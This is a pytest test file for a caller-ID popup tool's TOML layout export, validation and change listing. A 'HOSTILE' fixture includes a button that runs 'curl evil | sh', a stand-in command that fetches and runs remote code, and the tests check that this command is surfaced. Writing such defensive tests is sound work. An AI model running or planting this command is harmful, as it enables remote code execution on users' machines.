import tomllib
from pathlib import Path

import pytest

from bubbled.settings.layout_file import changes, check, exported, programs
from bubbled.settings.loading import load
from bubbled.settings.mistake import InvalidSettings

SETTINGS = tomllib.loads("""\
[me]
extension = "101"
region = "NL"
[pbx]
host = "pbx.example.com"
username = "bubbled"
secret = "hunter2"
[popup]
inbound = false
hours = ["Mon-Fri 08:30-17:30"]
[popup.window]
corner = "top-left"
[popup.layout]
headline = "$name"
[[button]]
label = "CRM"
open = "https://crm.example.com/?q=$number_national"
[[button]]
label = "Mail"
mail = { subject = "Call $name", body = '''
Please "call"
$number''' }
""")
HOSTILE = """\
[popup]
outbound = false
[[button]]
label = "Nice"
run = ["/bin/sh", "-c", "curl evil | sh"]
[[button]]
label = "Copy"
copy = "$number"
"""


def mistakes(text: str) -> list[str]:
    with pytest.raises(InvalidSettings) as refusal:
        check(Path("layout.toml"), tomllib.loads(text), text)
    return [str(mistake) for mistake in refusal.value.mistakes]


def test_a_layout_goes_out_whole_and_nothing_else_with_it() -> None:
    text = exported(SETTINGS)
    assert tomllib.loads(text) == {key: SETTINGS[key] for key in ("popup", "button")}
    assert "hunter2" not in text
    assert "pbx.example.com" not in text
    check(Path("layout.toml"), tomllib.loads(text), text)


def test_a_layout_that_is_as_usual_can_go_out_too() -> None:
    text = exported({"me": {"extension": "101"}})
    assert tomllib.loads(text) == {"popup": {}}
    check(Path("layout.toml"), tomllib.loads(text), text)


def test_none_of_the_buttons_is_a_layout_too() -> None:
    text = exported({"popup": {"inbound": True}, "button": []})
    assert tomllib.loads(text) == {"popup": {"inbound": True}, "button": []}


def test_the_example_settings_go_out_and_come_in(tmp_path: Path) -> None:
    example = (Path(__file__).parents[2] / "config" / "bubbled.toml").read_text()
    document = tomllib.loads(example)
    file = tmp_path / "config.toml"
    file.write_text("\n".join([example.partition("[popup]")[0], exported(document)]))
    assert load(file).settings.popup == load(Path("config/bubbled.toml").absolute()).settings.popup


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ('[pbx]\nhost = "evil"\n[popup]\n', "line 1: pbx is no part of a layout, which holds"),
        ("[popup]\ninbuond = true\n", "line 2: popup.inbuond is not a known key; did you mean 'inbound'?"),
        ('[[buton]]\nlabel = "x"\nnote = true\n', "line 1: buton is not a known key; did you mean 'button'?"),
        ('\n[[button]]\nlabel = "x"\n', "line 2: button[1] must do one thing"),
        (
            '[popup.layout]\nheadline = "${name|uper}"\n',
            "line 2: popup.layout.headline holds a filter 'uper'",
        ),
        ("x = 1\n", "line 1: x is not a known key"),
        ("", "the file holds no layout: neither [popup] nor [[button]]"),
    ],
)
def test_what_is_no_layout_is_refused_with_its_line(text: str, told: str) -> None:
    assert mistakes(text)[0].startswith(told)


def test_every_mistake_is_told_at_once_in_the_order_of_the_file() -> None:
    found = mistakes('[popup]\nx = 1\n[log]\nlevel = "debug"\n[[button]]\nlabel = 5\n')
    assert [each.partition(":")[0] for each in found] == ["line 2", "line 3", "line 6"]


def test_what_would_change_is_told_as_the_file_writes_it() -> None:
    assert list(changes(SETTINGS, tomllib.loads(HOSTILE))) == [
        "popup.inbound: false -> as usual",
        'popup.hours: ["Mon-Fri 08:30-17:30"] -> as usual',
        'popup.window.corner: "top-left" -> as usual',
        'popup.layout.headline: "$name" -> as usual',
        "popup.outbound: as usual -> false",
        "buttons: 2 -> 2",
        'button 1: label = "Nice", run = ["/bin/sh", "-c", "curl evil | sh"]',
        'button 2: label = "Copy", copy = "$number"',
    ]
    assert list(changes(SETTINGS, SETTINGS)) == []
    assert list(changes(SETTINGS, {"popup": SETTINGS["popup"]})) == ["buttons: 2 -> bubbled's own"]


def test_programs_are_told_with_all_their_arguments() -> None:
    assert programs(tomllib.loads(HOSTILE)) == ('["/bin/sh", "-c", "curl evil | sh"]',)
    assert programs(SETTINGS) == ()
